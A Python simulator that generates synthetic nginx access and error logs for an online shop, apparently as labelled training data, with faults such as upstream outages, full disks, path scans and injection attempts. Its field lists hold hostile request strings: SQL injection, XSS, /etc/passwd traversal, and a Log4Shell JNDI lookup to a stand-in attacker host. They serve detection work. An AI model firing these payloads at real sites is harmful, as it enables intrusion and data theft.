# ruff: noqa: E501 - a script row is a log line and stays whole
"""nginx in front of a web shop: combined access log and error log in one stream."""

from services.trainer.datasets.simulators import clocks
from services.trainer.datasets.simulators import fields as f
from services.trainer.datasets.simulators.engine import Simulator, fault, flow

_FIELDS = {
    "clf": f.moment(clocks.CLF),
    "ip": f.address(""),
    "bad": f.address("45.148."),
    "worker": f.integer(21, 24),
    "conn": f.counter(40000, 9),
    "ua": f.ranked(
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36",
    ),
    "bot": f.ranked(
        "Googlebot/2.1 (+http://www.google.com/bot.html)", "bingbot/2.0", "AhrefsBot/7.0", "Baiduspider/2.0"
    ),
    "ref": f.ranked(
        "https://shop.example.com/", "-", "https://www.google.com/", "https://shop.example.com/search?q=lamp"
    ),
    "cat": f.ranked("lamps", "chairs", "tables", "garden", "kitchen", "sale"),
    "slug": f.ranked(
        "oak-desk", "reading-lamp", "wool-rug", "bar-stool", "linen-curtain", "copper-pan", "garden-bench"
    ),
    "id": f.integer(1000, 99999),
    "q": f.ranked("lamp", "desk", "rug", "chair", "sofa", "curtain+linen", "oak"),
    "hash": f.shaped("????????"),
    "bytes": f.skewed(8200, 0.9, least=180),
    "small": f.integer(120, 990),
    "img": f.ranked("hero", "desk", "lamp", "rug", "logo", "sprite"),
    "page": f.integer(1, 12),
    "token": f.shaped("%%%%%%%%%%%%%%%%"),
    "up": f.one_of("10.1.4.11:8080", "10.1.4.12:8080", "10.1.4.13:8080"),
    "secs": f.decimal(0.9, 59.0, 3),
    "scan": f.ranked(
        "/wp-login.php",
        "/.env",
        "/phpmyadmin/",
        "/.git/config",
        "/admin.php",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/actuator/env",
        "/cgi-bin/luci",
        "/solr/admin/",
        "/backup.zip",
    ),
    "inj": f.ranked(
        "id=1%27%20OR%20%271%27=%271",
        "q=%3Cscript%3Ealert(1)%3C/script%3E",
        "id=1;DROP%20TABLE%20users",
        "file=../../../../etc/passwd",
        "id=-1%20UNION%20SELECT%201,2,password%20FROM%20users",
        "x=${jndi:ldap://evil.example/a}",
    ),
    "mail": f.shaped("&&&&&##@example.com"),
    "excess": f.decimal(0.1, 19.9, 3),
    "pid": f.integer(300, 900),
}

_FLOWS = (
    flow("browse", 10, """
        - access | "GET / HTTP/2.0" 200 {bytes}
        *1-3 - access | "GET /static/css/app.{hash}.css HTTP/2.0" 200 {~bytes}
        ?0.8 - access | "GET /static/js/main.{hash}.js HTTP/2.0" 200 {~bytes}
        ?0.3 - access | "GET /static/js/vendor.{hash}.js HTTP/2.0" 304 0
        *1-4 - access | "GET /static/img/{~img}-{id}.webp HTTP/2.0" 200 {~bytes}
        ?0.2 - access | "GET /static/fonts/inter-var.woff2 HTTP/2.0" 200 {~bytes}
        ?0.5 +900-5000 - access | "GET /category/{cat} HTTP/2.0" 200 {~bytes}
        & ?0.5 - access | "GET /category/{cat}?page={page} HTTP/2.0" 200 {~bytes}
        ?0.6 +900-5000 - access | "GET /product/{slug}-{id} HTTP/2.0" 200 {~bytes}
        & - access | "GET /api/v1/stock/{id} HTTP/2.0" 200 {small}
        & ?0.4 - access | "GET /api/v1/recommendations?product={id} HTTP/2.0" 200 {~bytes}
        ?0.1 - access | "GET /favicon.ico HTTP/2.0" 200 {small}
    """, pace=(10, 160)),
    flow("search", 5, """
        - access | "GET /api/v1/suggest?q={q} HTTP/2.0" 200 {small}
        - access | "GET /search?q={q} HTTP/2.0" 200 {bytes}
        ?0.3 - access | "GET /search?q={q}&page={page} HTTP/2.0" 200 {bytes}
    """, pace=(50, 900)),
    flow("buy", 3, """
        - access | "POST /api/v1/cart/items HTTP/2.0" 201 {small}
        - access | "GET /cart HTTP/2.0" 200 {bytes}
        +500-4000 - access | "GET /checkout HTTP/2.0" 200 {bytes}
        +500-4000 - access | "POST /api/v1/checkout HTTP/2.0" 201 {small}
        - access | "GET /checkout/thanks?order={id} HTTP/2.0" 200 {bytes}
        ?0.1 - access | "DELETE /api/v1/cart/items/{id} HTTP/2.0" 204 0
    """, pace=(60, 700)),
    flow("account", 2, """
        - access | "GET /login HTTP/2.0" 200 {bytes}
        ?0.1 +900-4000 - access | "POST /login HTTP/2.0" 401 {small}
        +900-4000 - access | "POST /login HTTP/2.0" 302 0
        - access | "GET /account HTTP/2.0" 200 {bytes}
        ?0.4 - access | "GET /account/orders HTTP/2.0" 200 {bytes}
        ?0.1 - access | "PUT /api/v1/account/address HTTP/2.0" 200 {small}
        ?0.2 - access | "POST /logout HTTP/2.0" 302 0
    """, pace=(50, 700)),
    flow("crawler", 2, """
        ?0.2 - bot | "GET /robots.txt HTTP/1.1" 200 {small}
        - bot | "GET /product/{slug}-{id} HTTP/1.1" 200 {bytes}
        ?0.1 - bot | "GET /sitemap.xml HTTP/1.1" 200 {bytes}
        ?0.1 - bot | "GET /product/{slug}-old HTTP/1.1" 301 {small}
        /?0.08 - bot | "GET /product/gone-{id} HTTP/1.1" 404 {small}
    """),
    flow("old_link", 0.5, """
        - access | "GET /blog/{slug} HTTP/2.0" 404 {small}
        error error | *{conn} open() "/srv/www/blog/{slug}" failed (2: No such file or directory), client: {ip}, server: shop.example.com, request: "GET /blog/{slug} HTTP/2.0", host: "shop.example.com"
    """),
    flow("background_scan", 0.25, """
        - access | "GET {scan} HTTP/1.1" 404 {small}
    """),
    flow("slow_upstream", 0.25, """
        warn error | *{conn} an upstream response is buffered to a temporary file /var/cache/nginx/proxy_temp/{page}/00/00000{id} while reading upstream, client: {ip}, server: shop.example.com, request: "GET /export/catalogue.csv HTTP/2.0", upstream: "http://{up}/export/catalogue.csv", host: "shop.example.com"
        - access | "GET /export/catalogue.csv HTTP/2.0" 200 9{bytes}
    """),
    flow("client_left", 0.5, """
        - access | "GET /search?q={q} HTTP/2.0" 499 0
        ?0.3 info error | *{conn} client prematurely closed connection, so upstream connection is closed too while sending request to upstream, client: {ip}, server: shop.example.com, request: "GET /search?q={q} HTTP/2.0", upstream: "http://{up}/search?q={q}", host: "shop.example.com"
    """),
    flow("upstream_retry", 0.15, """
        error error | *{conn} upstream timed out (110: Connection timed out) while reading response header from upstream, client: {ip}, server: shop.example.com, request: "GET /api/v1/stock/{id} HTTP/2.0", upstream: "http://{up}/api/v1/stock/{id}", host: "shop.example.com"
        - access | "GET /api/v1/stock/{id} HTTP/2.0" 200 {small}
    """),
    flow("bad_request", 0.3, """
        info error | *{conn} client sent invalid request while reading client request line, client: {ip}, server: shop.example.com, request: "\\x16\\x03\\x01"
        - access | "\\x16\\x03\\x01" 400 157
    """),
    flow("upload_too_big", 0.08, """
        error error | *{conn} client intended to send too large body: 2{id}00 bytes, client: {ip}, server: shop.example.com, request: "POST /api/v1/returns/photos HTTP/2.0", host: "shop.example.com"
        - access | "POST /api/v1/returns/photos HTTP/2.0" 413 {small}
    """),
    flow("webhook", 1, """
        - hook | "POST /hooks/payment HTTP/1.1" 200 2
    """),
    flow("probe", 0, """
        - probe | "GET /healthz HTTP/1.1" 200 3
    """, every_s=10),
    flow("ocsp", 0.03, """
        warn error | "ssl_stapling" ignored, no OCSP responder URL in the certificate "/etc/nginx/tls/shop.pem"
    """),
    flow("reload", 0.03, """
        notice error | signal 1 (SIGHUP) received from {pid}, reconfiguring
        notice error | reconfiguring
        notice error | using the "epoll" event method
        notice error | start worker processes
        *2-4 notice error | start worker process {~pid}
        *2-4 notice error | gracefully shutting down
        notice error | exiting
    """),
    flow("log_rotation", 0, """
        notice error | signal 10 (SIGUSR1) received from {pid}, reopening logs
        notice error | reopening logs
    """, every_s=86400),
)  # fmt: skip

_UP = ', client: {ip}, server: shop.example.com, request: "GET /product/{slug}-{id} HTTP/2.0", upstream: "http://{up}/product/{slug}-{id}", host: "shop.example.com"'

_FAULTS = (
    fault("upstream_down", "dependency_unavailable", "后端应用全部不可用，请求返回502", "Every upstream refuses connections; visitors get 502", f"""
        *3-6 error error | *{{~conn}} connect() failed (111: Connection refused) while connecting to upstream{_UP.replace("{ip}", "{~ip}").replace("{up}", "{~up}")}
        *2-4 - access | "GET /product/{{slug}}-{{~id}} HTTP/2.0" 502 559
        *3-6 error error | *{{~conn}} no live upstreams while connecting to upstream{_UP.replace("{ip}", "{~ip}").replace("{up}", "shop_backend")}
        *3-5 - access | "POST /api/v1/checkout HTTP/2.0" 502 559
        - probe | "GET /healthz HTTP/1.1" 502 559
    """, {"search": '- access | "GET /search?q={q} HTTP/2.0" 502 559', "buy": '*2 - access | "POST /api/v1/cart/items HTTP/2.0" 502 559'}),
    fault("upstream_timeout", "timeout", "后端响应越来越慢，最终超时返回504", "The upstream answers ever more slowly and ends in 504", f"""
        *3-5 warn error | *{{~conn}} upstream server temporarily disabled while reading response header from upstream{_UP.replace("{ip}", "{~ip}")}
        *4-7 error error | *{{~conn}} upstream timed out (110: Connection timed out) while reading response header from upstream{_UP.replace("{ip}", "{~ip}").replace("{up}", "{~up}")}
        *3-6 - access | "GET /product/{{slug}}-{{~id}} HTTP/2.0" 504 569
        *2-4 - access | "GET /search?q={{~q}} HTTP/2.0" 499 0
    """, {"search": '+3000-9000 - access | "GET /search?q={q} HTTP/2.0" 504 569'}),
    fault("scanner", "port_scan", "同一来源批量探测敏感路径", "One source walks through a list of vulnerable paths", """
        *14-24 - attack | "GET {~scan} HTTP/1.1" 404 {~small}
        *2-4 - attack | "OPTIONS / HTTP/1.1" 405 157
        *2-3 error error | *{~conn} access forbidden by rule, client: {bad}, server: shop.example.com, request: "GET /.git/HEAD HTTP/1.1", host: "shop.example.com"
        *2-4 - attack | "GET /.git/HEAD HTTP/1.1" 403 153
    """),
    fault("injection", "injection_attempt", "参数中的SQL注入与脚本注入尝试", "SQL and script injection in query strings", """
        *5-9 - attack | "GET /product?{~inj} HTTP/1.1" 400 {~small}
        *2-4 - attack | "GET /search?{~inj} HTTP/1.1" 403 153
        *1-2 - attack | "GET /product?{~inj} HTTP/1.1" 500 {~small}
        *2-5 - attack | "POST /login?{~inj} HTTP/1.1" 403 153
    """),
    fault("rate_limit_storm", "rate_limited", "单一客户端请求过快，触发限流", "One client floods the API and is limited", """
        *6-10 error error | *{~conn} limiting requests, excess: {~excess} by zone "api", client: {bad}, server: shop.example.com, request: "GET /api/v1/stock/{~id} HTTP/1.1", host: "shop.example.com"
        & - attack | "GET /api/v1/stock/{id} HTTP/1.1" 429 162
        *1-2 warn error | *{~conn} delaying request, excess: {~excess}, by zone "api", client: {bad}, server: shop.example.com, request: "GET /api/v1/stock/{~id} HTTP/1.1", host: "shop.example.com"
    """),
    fault("worker_connections", "cpu_or_thread_exhausted", "连接数与文件句柄耗尽，无法接受新连接", "Connections and file handles run out; new clients cannot be accepted", """
        *3-5 alert error | 1024 worker_connections are not enough
        *2-4 crit error | accept4() failed (24: Too many open files)
        *2-4 alert error | *{~conn} 1024 worker_connections are not enough while connecting to upstream, client: {~ip}, server: shop.example.com, request: "GET /cart HTTP/2.0", upstream: "http://{~up}/cart", host: "shop.example.com"
        *2-4 - access | "GET /cart HTTP/2.0" 500 177
    """),
    fault("cache_disk_full", "disk_full", "缓存盘写满，代理临时文件写入失败", "The cache disk is full; temporary files cannot be written", """
        *4-6 crit error | *{~conn} pwrite() "/var/cache/nginx/proxy_temp/{~page}/02/00000{~id}" failed (28: No space left on device) while reading upstream, client: {~ip}, server: shop.example.com, request: "GET /export/catalogue.csv HTTP/2.0", upstream: "http://{~up}/export/catalogue.csv", host: "shop.example.com"
        *2-4 - access | "GET /export/catalogue.csv HTTP/2.0" 200 {~small}
        *2-3 crit error | mkdir() "/var/cache/nginx/client_temp/{~page}" failed (28: No space left on device)
        *1-3 - access | "POST /api/v1/returns/photos HTTP/2.0" 500 177
    """),
    fault("bad_certificate", "certificate_expired", "上游证书过期，SSL握手失败", "The upstream's certificate has expired; TLS handshakes fail", """
        *4-7 error error | *{~conn} upstream SSL certificate verify error: (10:certificate has expired) while SSL handshaking to upstream, client: {~ip}, server: shop.example.com, request: "POST /api/v1/checkout HTTP/2.0", upstream: "https://10.1.9.5:443/v1/charges", host: "shop.example.com"
        & - access | "POST /api/v1/checkout HTTP/2.0" 502 559
    """, {"buy": '*2 - access | "POST /api/v1/checkout HTTP/2.0" 502 559'}),
)  # fmt: skip

_ACCESS = '{^ip} - - [{~clf}] {message} "{ref}" "{ua}"'

SIMULATOR = Simulator(
    name="nginx",
    language="en",
    headers={
        "access": _ACCESS,
        "bot": '66.249.66.{page} - - [{~clf}] {message} "-" "{bot}"',
        "hook": '10.1.9.4 - - [{~clf}] {message} "-" "PaymentHooks/1.4"',
        "probe": '10.1.0.5 - - [{~clf}] {message} "-" "kube-probe/1.29"',
        "attack": '{bad} - - [{~clf}] {message} "-" "{ua}"',
        "": "{time} [{level}] {worker}#{worker}: {message}",
    },
    clock=clocks.pattern("%Y/%m/%d %H:%M:%S"),
    fields=_FIELDS,
    flows=_FLOWS,
    faults=_FAULTS,
    lines_per_s=12,
)
